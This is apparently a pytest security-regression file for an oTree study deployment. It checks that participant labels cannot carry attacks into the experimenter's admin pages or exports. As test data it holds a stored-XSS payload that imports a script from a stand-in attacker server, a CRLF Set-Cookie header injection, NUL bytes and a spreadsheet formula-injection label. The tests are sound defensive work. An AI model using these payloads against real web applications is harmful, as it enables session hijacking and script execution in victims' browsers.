"""Attacks through what a participant can send (issue 10 #1, #2, #5, #6, #11): each test reproduces the attack
against the real production layout and fails on the code before the fix."""

from __future__ import annotations

import html
import subprocess
import urllib.parse
from pathlib import Path

from playwright.sync_api import Browser, BrowserContext

from analysis import analyze, load
from contracts.responses import parse_responses, responses_csv
from deploy.gate import ALPHABETS
from harness.local import PG_BIN, export_custom
from tests.security.conftest import Evil, Hardened, raw_get
from tests.study_live.browser import Participant

PROLIFIC_PID = "5f1e2d3c4b5a69788796a5b4"


def _q(**params: str) -> str:
    return urllib.parse.urlencode({**params, "welcome_page_ok": "1", "screen_ok": "1"})


def _labels(hardened: Hardened, code: str) -> list[str]:
    return [p["label"] or "" for p in hardened.participants(code)]


def _entries(hardened: Hardened, session: dict, **params: str) -> list[tuple[str, str]]:
    """Every door that records a participant_label: the room link, the session-wide link, a start link."""
    anon = session["session_wide_url"].rstrip("/").rsplit("/", 1)[-1]
    first = hardened.participants(session["code"])[0]["code"]
    q = _q(**params)
    return [("room", f"/room/prolific?{q}"), ("join", f"/join/{anon}?{q}"),
            ("start", f"/InitializeParticipant/{first}?{q}")]


def test_stored_xss_label_never_runs_in_the_admin_pages(hardened: Hardened, front: str, admin: BrowserContext,
                                                        evil: Evil) -> None:
    """#1: a label that loads a foreign script, through the real room link; then the experimenter opens the
    session's Monitor, Payments and SplitScreen pages in chromium: no script runs, no foreign request is made."""
    session = hardened.session(3, room="prolific")
    payload = f"<img src=x onerror=import('//127.0.0.1:{evil.port}/p.js')>"
    replies = {door: raw_get(front, path) for door, path in _entries(hardened, session, participant_label=payload)}

    page = admin.new_page()
    dialogs: list[str] = []
    console: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("console", lambda m: console.append(m.text))
    base = admin.admin_base  # type: ignore[attr-defined]
    csp = {}
    for view in ("SessionMonitor", "SessionPayments", "SessionSplitScreen"):
        resp = page.goto(f"{base}/{view}/{session['code']}")
        assert resp is not None and resp.status == 200, view
        csp[view] = resp.headers.get("content-security-policy", "")
        page.wait_for_timeout(1000)  # the monitor fills its table over its websocket
    assert evil.hits == [] and dialogs == []   # the attack: the admin's browser fetched the attacker's script
    assert all("default-src 'self'" in v for v in csp.values()), csp   # defence in depth: nginx's CSP
    for door, r in replies.items():
        assert r.status == 400, f"{door}: {r.status} {r.text[:200]}"
        assert "participant_label" in r.text and "<img" not in r.text  # says what is wrong, echoes nothing
    assert not any("<" in label for label in _labels(hardened, session["code"]))
    # oTree's admin pages work under the nginx CSP (measured here: no violation reported on any of them)
    assert not [m for m in console if "Content Security Policy" in m], console


def test_invalid_joins_consume_no_place(hardened: Hardened) -> None:
    """#2: junk labels (too long, markup, control characters, none at all in the Prolific room) each get a 400
    and take no place; the real participants then all get in. (Its own nginx with a larger entry burst: this test
    counts places, and sends more entry requests than the production burst allows; that limit is tested in
    test_nginx_and_server.py.)"""
    with hardened.extra_nginx(entry_burst=20) as ng:
        _invalid_joins_consume_no_place(hardened, ng.url)


def _invalid_joins_consume_no_place(hardened: Hardened, front: str) -> None:
    session = hardened.session(2, room="prolific")
    junk = ["x" * 101, "<b>hi</b>", "abc\x01def", "ZZZZZZZZZZZZZZZZZZZZZZZZ", "5f1e2d3c4b5a69788796a5b"]
    for label in junk:
        r = raw_get(front, f"/room/prolific?{_q(participant_label=label)}")
        assert r.status == 400, (label, r.status)
    r = raw_get(front, f"/room/prolific?{_q()}")          # no label at all: required in the Prolific room
    assert r.status == 400 and "participant id" in r.text
    # HEAD: Starlette answers it with the GET handler, so it must pass the same door (it once skipped the
    # label-required rule and the screen check, and took a place)
    for label in ("", "<b>hi</b>"):
        r = raw_get(front, f"/room/prolific?{_q(participant_label=label)}", method="HEAD")
        assert r.status == 400, (label, r.status, r.headers)
    r = raw_get(front, f"/room/prolific?participant_label={PROLIFIC_PID}&welcome_page_ok=1", method="HEAD")
    assert r.status == 200 and r.headers.get("cache-control") == "no-store", r.status   # the screen check page
    assert _labels(hardened, session["code"]) == ["", ""]
    for pid in (PROLIFIC_PID, PROLIFIC_PID.replace("5f", "6a")):   # both places are still free
        r = raw_get(front, f"/room/prolific?{_q(participant_label=pid)}")
        assert r.status == 302 and "/InitializeParticipant/" in r.headers["location"], (r.status, r.text[:300])
    assert sorted(_labels(hardened, session["code"])) == sorted([PROLIFIC_PID, PROLIFIC_PID.replace("5f", "6a")])


def test_nul_and_control_characters_get_400_not_500(hardened: Hardened, front: str) -> None:
    """#6: a NUL byte in a label or STUDY_ID gave an HTTP 500 (PostgreSQL refuses it mid-request)."""
    session = hardened.session(1, room="lab")
    anon = session["session_wide_url"].rstrip("/").rsplit("/", 1)[-1]
    for path in (f"/room/lab?participant_label=a%00b&welcome_page_ok=1&screen_ok=1",
                 f"/room/prolific?participant_label={PROLIFIC_PID}&STUDY_ID=%00&welcome_page_ok=1&screen_ok=1",
                 f"/join/{anon}?participant_label=%00&screen_ok=1",
                 f"/join/{anon}?participant_label=a%0d%0aSet-Cookie:x=1&screen_ok=1",
                 "/p/%00/study/Consent/1"):
        r = raw_get(front, path)
        assert r.status == 400, (path, r.status, r.text[:200])
    assert _labels(hardened, session["code"]) == [""]


def test_small_screen_visitor_takes_no_place(hardened: Hardened, front: str, browser: Browser) -> None:
    """#11: a phone visitor is told the real requirement before oTree assigns a place; a laptop then gets it."""
    session = hardened.session(1, room="prolific")
    link = f"{front}/room/prolific?participant_label={PROLIFIC_PID}"
    phone = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True)
    try:
        page = phone.new_page()
        page.goto(link)
        page.wait_for_selector("text=at least 900 x 500 pixels")
        assert "/p/" not in page.url
    finally:
        phone.close()
    assert _labels(hardened, session["code"]) == [""]
    laptop = browser.new_context(viewport={"width": 1366, "height": 768})
    try:
        page = laptop.new_page()
        page.goto(link)
        page.wait_for_url("**/p/**/Consent/**")
        assert page.locator("input[name=consent]:checked").count() == 0   # no answer preselected
        assert "about 2 minutes" in page.inner_text("body")               # 2 rounds, not a fixed 20 minutes
    finally:
        laptop.close()
    assert _labels(hardened, session["code"]) == [PROLIFIC_PID]


def test_formula_label_is_neutralised_and_the_analysis_reads_it(hardened: Hardened, front: str, browser: Browser,
                                                                 tmp_path: Path) -> None:
    """#5: "-2-3" was a valid lab id: a spreadsheet runs it as a formula, in oTree's own wide export too (which the
    app cannot neutralise). The lab alphabet now refuses a leading '-', at the door and on the consent form. Cells
    that still start a formula (a room with a regular expression of its own; here written into the database) are
    exported as "'-2-3" in both custom exports, and the analysis reads that export unchanged."""
    session = hardened.session(1, room="lab")
    r = raw_get(front, "/room/lab?participant_label=-2-3&welcome_page_ok=1&screen_ok=1")
    assert r.status == 400 and "not starting with '-'" in html.unescape(r.text)
    context = browser.new_context(viewport={"width": 1366, "height": 768})
    try:
        page = context.new_page()
        page.goto(f"{front}/room/lab?participant_label=seat23&welcome_page_ok=1")
        me = Participant(page)
        page.wait_for_url("**/Consent/**")
        assert page.evaluate("js_vars.id_pattern") == ALPHABETS["lab"]    # the page's own check: the room's rule
        page.evaluate("document.getElementById('id_prolific_study_id').value = '-5-5'")  # past the page's own check
        page.check("input[name=consent]")
        page.click("button.otree-btn-next")
        page.wait_for_selector("text=prolific_study_id is not valid")
        page.evaluate("document.getElementById('id_prolific_study_id').value = 'study55'")
        me.consent_and_instructions()
        for k in (1, 2):
            me.wait_round(k)
            me.click_slot(1)
        page.wait_for_url("**/Completion/**")
    finally:
        context.close()
    _psql(hardened, "UPDATE otree_participant SET label = '-2-3' WHERE label = 'seat23'; "
                    "UPDATE study_app_player SET prolific_study_id = '-5-5' WHERE prolific_study_id = 'study55'")
    text = export_custom(hardened.server, app="study_app", session_code=session["code"])
    responses = parse_responses(text)
    assert {r.participant_label for r in responses} == {"'-2-3"}
    assert responses_csv(responses) == text.replace("\r\n", "\n")      # the round trip changes nothing
    trials = hardened.server.rest("GET", f"/api/export_app_custom?app=study_app&session_code={session['code']}"
                                  "&function_name=custom_export_trials").decode("utf-8-sig")
    assert ",'-2-3,'-5-5," in trials and ",-2-3," not in trials
    path = tmp_path / "responses.csv"
    path.write_text(text)
    study = load(hardened.bundle, path)
    result = analyze(study, n_bootstrap=0)
    assert list(result.tables["participants"]["participant_label"]) == ["'-2-3"]


def _psql(hardened: Hardened, sql: str) -> None:
    r = subprocess.run([str(PG_BIN / "psql"), hardened.server.env["DATABASE_URL"], "-v", "ON_ERROR_STOP=1",
                        "-c", sql], capture_output=True, text=True, timeout=30)
    assert r.returncode == 0 and "UPDATE 0" not in r.stdout, r.stdout + r.stderr
